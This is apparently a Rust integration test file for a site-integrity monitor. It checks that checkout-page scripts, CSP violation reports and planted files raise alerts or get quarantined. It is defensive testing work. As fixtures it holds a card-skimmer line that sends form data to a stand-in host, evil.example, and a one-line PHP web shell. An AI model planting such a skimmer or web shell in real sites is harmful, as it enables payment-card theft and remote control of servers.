//! `serve` with `[[integrity.pages]]` against a real local shop: an unauthorised script alerts
//! at every fetch until authorised over the API; a skimmer injected into checkout becomes an
//! alert with its source and hash; a CSP report posted by a real HTTP client becomes a
//! `csp_violation` alert; the report endpoint refuses what is not a report. And a playbook's
//! `integrity_restore` step puts a planted file into quarantine.

#![allow(clippy::unwrap_used)] // in tests a panic is the failure report

mod support;

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use serde_json::Value;
use support::{Server, TOKEN, client, wait_for};

/// A shop serving whatever its pages map says: `path → (content type, headers, body)`.
type Pages = Arc<Mutex<Vec<(String, String, String)>>>;

/// A minimal HTTP/1.1 server on its own thread: one request per connection.
fn shop(pages: Pages) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request = String::new();
            if reader.read_line(&mut request).is_err() {
                continue;
            }
            // Skip the headers.
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let path = request.split_whitespace().nth(1).unwrap_or("/").to_owned();
            let found = pages
                .lock()
                .unwrap()
                .iter()
                .find(|(p, _, _)| *p == path)
                .cloned();
            let response = match found {
                Some((_, headers, body)) => format!(
                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n{headers}\r\n{body}",
                    body.len()
                ),
                None => "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
                    .into(),
            };
            let _ = stream.write_all(response.as_bytes());
        }
    });
    base
}

fn set(pages: &Pages, path: &str, headers: &str, body: &str) {
    let mut p = pages.lock().unwrap();
    p.retain(|(x, _, _)| x != path);
    p.push((path.into(), headers.into(), body.into()));
}

fn checkout(scripts: &str) -> String {
    format!(
        "<html><head>{scripts}</head><body><h1>Checkout</h1><form action=/pay method=post>\
         <input name=card></form></body></html>"
    )
}

fn alerts(server: &Server) -> Vec<Value> {
    let v: Value = client()
        .get(server.url("/v1/alerts?limit=1000"))
        .bearer_auth(TOKEN)
        .send()
        .unwrap()
        .json()
        .unwrap();
    v["items"].as_array().cloned().unwrap_or_default()
}

fn count(server: &Server, rule: &str, script: &str) -> usize {
    alerts(server)
        .iter()
        .filter(|a| a["rule_id"] == rule && a["evidence"]["details"]["script"] == script)
        .count()
}

#[test]
fn payment_pages_are_monitored_and_csp_reports_become_alerts() {
    let pages: Pages = Arc::default();
    let base = shop(pages.clone());
    let html = "content-type: text/html\r\ncontent-security-policy: script-src 'self'\r\n";
    set(&pages, "/js/app.js", "", "document.title='shop';");
    set(
        &pages,
        "/checkout",
        html,
        &checkout("<script src=/js/app.js></script>"),
    );

    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let config = dir.path().join("ensuresec.toml");
    std::fs::write(
        &config,
        format!(
            "[integrity]\nasset = \"shop\"\n\n[[integrity.pages]]\nurl = \"{base}/checkout\"\ninterval = 1\n\n\
             [integrity.page_monitor]\nreminder_seconds = 0\ncsp_reports_per_second = 5\n"
        ),
    )
    .unwrap();
    let server = Server::start(&data, &["--config", config.to_str().unwrap()]);
    server.printed("payment page");
    let app = format!("{base}/js/app.js");

    // Unauthorised, the shop's own script alerts at every fetch.
    wait_for("two unauthorised-script alerts", 30, || {
        (count(&server, "integrity:page_script_unauthorized", &app) >= 2).then_some(())
    });
    let listed: Value = client()
        .get(server.url("/v1/integrity/pages"))
        .bearer_auth(TOKEN)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(listed["items"][0]["scripts"][0]["script"], app);
    assert_eq!(listed["items"][0]["scripts"][0]["authorized"], false);

    // Authorising needs a token and a justification.
    let r = client()
        .post(server.url("/v1/integrity/pages/authorizations"))
        .json(&serde_json::json!({"script": app, "justification": "shop code"}))
        .send()
        .unwrap();
    assert_eq!(r.status(), 401);
    let r = client()
        .post(server.url("/v1/integrity/pages/authorizations"))
        .bearer_auth(TOKEN)
        .json(&serde_json::json!({"script": app, "justification": "  "}))
        .send()
        .unwrap();
    assert_eq!(r.status(), 400, "{}", r.text().unwrap());
    let r: Value = client()
        .post(server.url("/v1/integrity/pages/authorizations"))
        .bearer_auth(TOKEN)
        .json(&serde_json::json!({"script": app, "justification": "the shop's checkout code"}))
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(
        r["sha256"],
        ensuresec_integrity::pages::inventory::sha256_hex(b"document.title='shop';")
    );

    // A skimmer injected into checkout.
    set(
        &pages,
        "/js/skim.js",
        "",
        "new Image().src='https://evil.example/?'+card.value",
    );
    set(
        &pages,
        "/checkout",
        html,
        &checkout("<script src=/js/app.js></script><script src=/js/skim.js></script>"),
    );
    let skim = format!("{base}/js/skim.js");
    let added = wait_for("the skimmer's alert", 30, || {
        alerts(&server)
            .into_iter()
            .find(|a| a["rule_id"] == "integrity:page_script_added")
    });
    assert_eq!(added["severity"], "high");
    assert_eq!(added["entity"]["value"], "shop");
    assert_eq!(added["evidence"]["details"]["src"], skim);
    assert_eq!(
        added["evidence"]["details"]["sha256"],
        ensuresec_integrity::pages::inventory::sha256_hex(
            b"new Image().src='https://evil.example/?'+card.value"
        )
    );
    // The skimmer keeps alerting; the authorised script has stopped.
    let app_alerts = count(&server, "integrity:page_script_unauthorized", &app);
    wait_for("two more skimmer alerts", 30, || {
        (count(&server, "integrity:page_script_unauthorized", &skim) >= 2).then_some(())
    });
    assert_eq!(
        count(&server, "integrity:page_script_unauthorized", &app),
        app_alerts,
        "an authorised script raises nothing more"
    );

    // A browser's CSP report, both formats, without a token.
    let r = client()
        .post(server.url("/v1/integrity/csp-report"))
        .header("content-type", "application/csp-report")
        .body(format!(
            r#"{{"csp-report":{{"document-uri":"{base}/checkout","blocked-uri":"https://evil.example/x.js","effective-directive":"script-src-elem","original-policy":"script-src 'self'","disposition":"enforce"}}}}"#
        ))
        .send()
        .unwrap();
    assert_eq!(r.status(), 204);
    let r = client()
        .post(server.url("/v1/integrity/csp-report"))
        .header("content-type", "application/reports+json")
        .body(format!(
            r#"[{{"type":"csp-violation","url":"{base}/checkout","body":{{"documentURL":"{base}/checkout","blockedURL":"inline","effectiveDirective":"script-src-elem","disposition":"report","sample":"steal()"}}}}]"#
        ))
        .send()
        .unwrap();
    assert_eq!(r.status(), 204);
    let violations = wait_for("two csp_violation alerts", 30, || {
        let v: Vec<Value> = alerts(&server)
            .into_iter()
            .filter(|a| a["rule_id"] == "integrity:csp_violation")
            .collect();
        (v.len() >= 2).then_some(v)
    });
    assert!(
        violations.iter().any(
            |a| a["evidence"]["blocked_uri"] == "https://evil.example/x.js"
                && a["severity"] == "medium"
                && a["entity"]["value"] == "shop"
        ),
        "{violations:?}"
    );
    assert!(
        violations
            .iter()
            .any(|a| a["evidence"]["sample"] == "steal()")
    );

    // What is not a report is refused, and a flood is shed.
    let r = client()
        .post(server.url("/v1/integrity/csp-report"))
        .header("content-type", "text/plain")
        .body("hello")
        .send()
        .unwrap();
    assert_eq!(r.status(), 415);
    let r = client()
        .post(server.url("/v1/integrity/csp-report"))
        .header("content-type", "application/csp-report")
        .body(vec![b' '; 70_000])
        .send()
        .unwrap();
    assert!(matches!(r.status().as_u16(), 413 | 429), "{}", r.status());
    let statuses: Vec<u16> = (0..40)
        .map(|_| {
            client()
                .post(server.url("/v1/integrity/csp-report"))
                .header("content-type", "application/csp-report")
                .body("{}")
                .send()
                .unwrap()
                .status()
                .as_u16()
        })
        .collect();
    assert!(statuses.contains(&429), "{statuses:?}");
    assert!(
        statuses.iter().all(|s| *s == 400 || *s == 429),
        "{statuses:?}"
    );
}

#[test]
fn a_playbook_restores_the_web_root() {
    let support::WebRoot { dir, www, data } = support::web_root_with_baseline();
    let playbook = dir.path().join("restore.yaml");
    std::fs::write(
        &playbook,
        "playbooks:\n  - id: restore-web-root\n    title: Put the web root back\n    trigger:\n      rules: [\"integrity:file_created\", \"integrity:malicious_content\"]\n    steps:\n      - id: restore\n        integrity_restore: {}\n",
    )
    .unwrap();
    let config = dir.path().join("ensuresec.toml");
    std::fs::write(
        &config,
        format!(
            "[integrity]\nroot = \"{}\"\nasset = \"web-1\"\nscan_interval_seconds = 0\n\n\
             [respond]\ndefault_playbooks = false\nplaybook_files = [\"{}\"]\n",
            www.display(),
            playbook.display()
        ),
    )
    .unwrap();
    let server = Server::start(&data, &["--config", config.to_str().unwrap()]);
    server.printed("for unplanned changes");

    std::fs::write(www.join("shell.php"), "<?php @eval($_POST['z']);").unwrap();
    wait_for("the planted file to be quarantined", 30, || {
        (!www.join("shell.php").exists()).then_some(())
    });
    assert_eq!(
        std::fs::read_to_string(www.join("index.php")).unwrap(),
        "<?php echo 'shop';\n"
    );
    let quarantined = walk(&data.join("integrity").join("quarantine"));
    assert!(
        quarantined.iter().any(|p| p.ends_with("shell.php")),
        "{quarantined:?}"
    );
    drop(server);
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(walk(&p));
            } else {
                out.push(p);
            }
        }
    }
    out
}
